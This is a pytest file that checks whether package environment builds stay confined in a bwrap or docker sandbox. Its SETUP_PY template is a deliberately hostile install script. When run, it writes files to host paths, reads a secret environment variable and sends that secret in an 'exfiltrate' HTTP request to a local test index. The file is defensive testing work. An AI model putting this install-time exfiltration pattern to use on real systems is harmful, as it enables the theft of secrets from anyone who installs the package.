"""Environment builds run no submitted code outside a sandbox, on bwrap and docker.

A tiny PEP 503 index on 127.0.0.1 serves source distributions whose setup.py tries what an attacker would: write
marker files at absolute host paths, read a secret from the worker's environment, reach the worker's loopback.
It runs only inside the build sandbox, and records what it saw in a module of the package it builds, so the test
reads it back instead of trusting that nothing happened.
"""

from __future__ import annotations

import hashlib
import http.server
import io
import json
import tarfile
import threading
import uuid
import zipfile
from pathlib import Path

import pytest

from sandbox import EnvironmentBuildError, Limits
from sandbox.fetch import IndexConfig
from tests.conftest import sandbox_backend_or_missing
from tests.evaluation.conftest import ISOLATING_BACKENDS

SECRET = f"rcb-fake-secret-{uuid.uuid4().hex}"
PASSWORD = f"rcb-index-password-{uuid.uuid4().hex}"
LIMITS = Limits(wall_seconds=60)

SETUP_PY = """
import json, os, socket
from setuptools import setup

seen = {{"uid": os.getuid(), "secret": os.environ.get("RCB_FAKE_SECRET", "absent"), "environment": sorted(os.environ),
        "markers": {{}}}}
for path in {markers!r}:
    try:
        with open(path, "w") as marker:
            marker.write(seen["secret"])
        seen["markers"][path] = "written"
    except OSError as exc:
        seen["markers"][path] = f"refused: {{exc.strerror}}"
try:
    connection = socket.create_connection(("127.0.0.1", {port}), timeout=3)
    connection.sendall(("GET /exfiltrate/" + seen["secret"] + " HTTP/1.0\\r\\n\\r\\n").encode())
    connection.close()
    seen["network"] = "connected"
except OSError as exc:
    seen["network"] = f"refused: {{exc}}"
print("rcb-evil saw", json.dumps(seen))
if {fail!r}:
    raise SystemExit("rcb-evil refuses to build")
with open("rcb_evil_seen.py", "w") as module:
    module.write("SEEN = " + repr(json.dumps(seen)) + "\\n")
setup(name={name!r}, version="1.0", py_modules=["rcb_evil_seen"])
"""


def sdist(name: str, setup_py: str) -> tuple[str, bytes]:
    """A minimal source distribution (no pyproject.toml: pip's legacy setuptools build)."""
    base = f"{name.replace('-', '_')}-1.0"
    files = {f"{base}/setup.py": setup_py, f"{base}/PKG-INFO": f"Metadata-Version: 1.0\nName: {name}\nVersion: 1.0\n"}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(path)
            info.size, info.mode = len(data), 0o644
            archive.addfile(info, io.BytesIO(data))
    return f"{base}.tar.gz", buffer.getvalue()


class TinyIndex:
    """A PEP 503 simple index of a few projects on 127.0.0.1, recording every path asked for."""

    def __init__(self) -> None:
        self.projects: dict[str, tuple[str, bytes]] = {}
        self.requests: list[str] = []
        index = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                index.requests.append(self.path)
                body, kind = index.page(self.path)
                self.send_response(200 if body is not None else 404)
                self.send_header("Content-Type", kind)
                self.end_headers()
                self.wfile.write(body or b"not found")

            def log_message(self, *args) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def page(self, path: str) -> tuple[bytes | None, str]:
        for name, (filename, data) in self.projects.items():
            if path.rstrip("/") == f"/simple/{name}":
                digest = hashlib.sha256(data).hexdigest()
                return (
                    f'<html><body><a href="/files/{filename}#sha256={digest}">{filename}</a></body></html>'.encode(),
                    "text/html",
                )
            if path == f"/files/{filename}":
                return data, "application/octet-stream"
        return None, "text/plain"


@pytest.fixture(scope="module")
def index():
    served = TinyIndex()
    yield served
    served.server.shutdown()


@pytest.fixture(params=ISOLATING_BACKENDS)
def backend(request, sandbox_cache):
    """The backend; every environment a test builds (each of its own hash) is removed afterwards."""
    backend = sandbox_backend_or_missing(request.param, sandbox_cache)
    built: list[str] = []
    real = backend.environment_build

    def build(**kwargs):
        built.append(kwargs["env_hash"])
        return real(**kwargs)

    backend.environment_build = build
    yield backend
    for env_hash in built:
        backend.environment_remove(env_hash=env_hash)


@pytest.fixture
def worker_environment(monkeypatch, index):
    """The worker's environment: a secret, and the test index (with credentials) added to the host's indexes."""
    host = IndexConfig.host()
    extra = [*host.index_urls[1:], f"http://rcb:{PASSWORD}@127.0.0.1:{index.port}/simple"]
    monkeypatch.setenv("PIP_EXTRA_INDEX_URL", " ".join(extra))
    monkeypatch.setenv("RCB_FAKE_SECRET", SECRET)


def hostile(index: TinyIndex, tmp_path: Path, *, fail: bool) -> tuple[str, list[Path]]:
    """Serve a new hostile sdist; returns its name and the host paths its setup.py tries to write."""
    name = f"rcb-evil-{uuid.uuid4().hex[:8]}"
    markers = [tmp_path / "marker", Path("/tmp") / f"{name}-marker", Path("/root") / f"{name}-marker"]
    setup_py = SETUP_PY.format(markers=[str(m) for m in markers], port=index.port, fail=fail, name=name)
    index.projects[name] = sdist(name, setup_py)
    return name, markers


def assert_nothing_left_the_sandbox(log: str, markers: list[Path], index: TinyIndex) -> None:
    assert [m for m in markers if m.exists()] == [], "a marker appeared on the host"
    assert SECRET not in log
    assert PASSWORD not in log and f"127.0.0.1:{index.port}" not in log, "the build log shows the index address"
    assert "pip.conf" not in log and "/opt/pypi" not in log
    assert not [path for path in index.requests if path.startswith("/exfiltrate")]


def test_a_hostile_sdist_builds_only_inside_the_sandbox_and_sees_nothing(backend, index, worker_environment, tmp_path):
    name, markers = hostile(index, tmp_path, fail=False)
    env_hash = hashlib.sha256(f"rcb-test-hostile-{uuid.uuid4()}".encode()).hexdigest()

    environment = backend.environment_build(env_hash=env_hash, requirements=f"{name}\n")

    assert_nothing_left_the_sandbox(environment.build_log, markers, index)
    assert f"/simple/{name}/" in index.requests, "the sdist was fetched from the test's index"
    with backend.session(environment) as session:
        result = session.run(
            files={"p.py": b"import rcb_evil_seen; print(rcb_evil_seen.SEEN)"},
            command=[environment.python, "p.py"],
            limits=LIMITS,
        )
    assert result.exit_code == 0, result.stderr
    seen = json.loads(result.stdout)
    assert seen["uid"] in (65534, 10001), "built as the sandbox user"
    assert seen["secret"] == "absent"
    assert not {"RCB_FAKE_SECRET", "DJANGO_SETTINGS_MODULE", "PIP_EXTRA_INDEX_URL"} & set(seen["environment"])
    assert seen["network"].startswith("refused")
    for marker in markers:
        # Refused, or written into the sandbox's own temporary folder, which the host never sees.
        assert seen["markers"][str(marker)].startswith("refused") or str(marker).startswith("/tmp/"), seen


def test_a_hostile_sdist_that_fails_fails_inside_the_sandbox(backend, index, worker_environment, tmp_path):
    name, markers = hostile(index, tmp_path, fail=True)
    env_hash = hashlib.sha256(f"rcb-test-hostile-failing-{uuid.uuid4()}".encode()).hexdigest()

    with pytest.raises(EnvironmentBuildError) as failure:
        backend.environment_build(env_hash=env_hash, requirements=f"{name}\n")

    log = failure.value.log
    assert "rcb-evil refuses to build" in log, log[-3000:]
    assert '"secret": "absent"' in log and '"network": "refused' in log
    assert_nothing_left_the_sandbox(log, markers, index)


def test_a_package_that_exists_only_as_an_sdist_builds_and_imports(backend):
    requirements = "antlr4-python3-runtime==4.9.3\n"
    env_hash = hashlib.sha256(f"rcb-test-sdist-only-{uuid.uuid4()}\n{requirements}".encode()).hexdigest()

    environment = backend.environment_build(env_hash=env_hash, requirements=requirements)

    assert "antlr4-python3-runtime-4.9.3.tar.gz" in environment.build_log
    with backend.session(environment) as session:
        result = session.run(
            files={"p.py": b"import antlr4; print(antlr4.__name__, antlr4.Token.EOF)"},
            command=[environment.python, "p.py"],
            limits=LIMITS,
        )
    assert (result.exit_code, result.stdout.strip()) == (0, "antlr4 -1"), result.stderr


def test_dependencies_an_sdist_declares_only_when_built_are_fetched_in_a_later_round(
    backend, index, worker_environment, tmp_path
):
    name = f"rcb-needs-{uuid.uuid4().hex[:8]}"
    setup_py = f'from setuptools import setup\nsetup(name={name!r}, version="1.0", install_requires=["six"])\n'
    index.projects[name] = sdist(name, setup_py)
    env_hash = hashlib.sha256(f"rcb-test-rounds-{uuid.uuid4()}".encode()).hexdigest()

    environment = backend.environment_build(env_hash=env_hash, requirements=f"{name}\n")

    assert "round 2: fetched six-" in environment.build_log, environment.build_log[-3000:]
    with backend.session(environment) as session:
        result = session.run(
            files={"p.py": b"import six; print(six.__name__)"}, command=[environment.python, "p.py"], limits=LIMITS
        )
    assert result.stdout.strip() == "six", result.stderr


def wheel(name: str, requires: list[str]) -> tuple[str, bytes]:
    """A pure-Python wheel of one module `<name>` whose METADATA declares `requires`."""
    module = name.replace("-", "_")
    dist_info = f"{module}-1.0.dist-info"
    metadata = f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n" + "".join(
        f"Requires-Dist: {r}\n" for r in requires
    )
    files = {
        f"{module}.py": f"NAME = {name!r}\n",
        f"{dist_info}/METADATA": metadata,
        f"{dist_info}/WHEEL": "Wheel-Version: 1.0\nGenerator: rcb-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{dist_info}/RECORD"] = "".join(f"{path},,\n" for path in [*files, f"{dist_info}/RECORD"])
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, text in files.items():
            archive.writestr(path, text)
    return f"{module}-1.0-py3-none-any.whl", buffer.getvalue()


def test_the_hosts_find_links_folders_and_file_indexes_are_honoured_and_declared_dependencies_fetched(
    backend, monkeypatch, tmp_path
):
    top, dependency = f"rcb-top-{uuid.uuid4().hex[:8]}", f"rcb-dep-{uuid.uuid4().hex[:8]}"
    links = tmp_path / "links"
    links.mkdir()
    filename, data = wheel(top, [dependency, f"{dependency}-never; python_version < '3'"])
    (links / filename).write_bytes(data)
    project = tmp_path / "index" / "simple" / dependency
    project.mkdir(parents=True)
    filename, data = wheel(dependency, [])
    (project / filename).write_bytes(data)
    (project / "index.html").write_text(f'<a href="{filename}">{filename}</a>')
    host = IndexConfig.host()
    monkeypatch.setenv("PIP_FIND_LINKS", " ".join([*host.find_links, str(links)]))
    monkeypatch.setenv(
        "PIP_EXTRA_INDEX_URL", " ".join([*host.index_urls[1:], (tmp_path / "index" / "simple").as_uri()])
    )
    env_hash = hashlib.sha256(f"rcb-test-find-links-{uuid.uuid4()}".encode()).hexdigest()

    environment = backend.environment_build(env_hash=env_hash, requirements=f"{top}\n")

    assert "round 2" not in environment.build_log, "the wheel's declared dependency came in the first round"
    assert str(tmp_path) not in environment.build_log
    with backend.session(environment) as session:
        source = f"import {top.replace('-', '_')} as a, {dependency.replace('-', '_')} as b; print(a.NAME, b.NAME)"
        result = session.run(files={"p.py": source.encode()}, command=[environment.python, "p.py"], limits=LIMITS)
    assert result.stdout.split() == [top, dependency], result.stderr


def test_fetching_more_than_the_configured_megabytes_is_refused_with_the_log(
    sandbox_cache, settings, monkeypatch, tmp_path
):
    backend = sandbox_backend_or_missing("bwrap", sandbox_cache)
    name = f"rcb-big-{uuid.uuid4().hex[:8]}"
    filename, data = wheel(name, [])
    (tmp_path / filename).write_bytes(data + b"\0" * (2 << 20))
    monkeypatch.setenv("PIP_FIND_LINKS", str(tmp_path))
    settings.SANDBOX_FETCH_MB = 1
    env_hash = hashlib.sha256(f"rcb-test-too-big-{uuid.uuid4()}".encode()).hexdigest()

    with pytest.raises(EnvironmentBuildError) as failure:
        backend.environment_build(env_hash=env_hash, requirements=f"{name}\n")

    assert "more than 1 MB of distributions" in str(failure.value)
    assert name in failure.value.log and "more than 1 MB" in failure.value.log
